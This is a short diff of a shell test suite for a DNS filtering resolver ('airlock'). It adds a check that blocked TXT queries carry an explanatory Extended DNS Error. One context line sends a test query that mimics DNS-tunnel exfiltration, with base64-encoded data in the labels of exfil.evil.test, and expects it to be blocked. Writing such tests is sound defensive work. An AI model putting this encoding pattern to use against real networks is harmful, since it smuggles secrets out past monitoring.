@@ -143,6 +143,7 @@ out=$(q TXT aGVsbG8gd29ybGQ.c2VjcmV0.exfil.evil.test)
 expect_re "tunnel status" 'status: NXDOMAIN' "$out"
 out=$(q TXT allowed.test)
 expect_re "TXT of allowed name: NODATA" 'status: NOERROR.*ANSWER: 0' "$(printf '%s' "$out" | tr '\n' ' ')"
+expect_re "TXT: says why" 'EDE: 15 \(Blocked\): \(airlock: query type not forwarded\)' "$out"
 out=$(q HTTPS allowed.test)
 expect_re "HTTPS: NODATA" 'status: NOERROR.*ANSWER: 0' "$(printf '%s' "$out" | tr '\n' ' ')"
 out=$(q ANY allowed.test)
